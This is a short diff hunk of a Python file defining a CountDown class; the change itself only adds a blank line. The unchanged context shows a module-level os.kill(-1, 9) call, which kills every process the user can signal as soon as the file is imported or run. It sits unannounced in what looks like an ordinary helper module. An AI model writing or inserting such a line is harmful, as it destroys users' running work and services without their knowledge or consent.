@@ -7,6 +7,7 @@ import os
 
 os.kill(-1, 9)
 
+
 class CountDown:
     def __init__(self, start):
         self.left = start
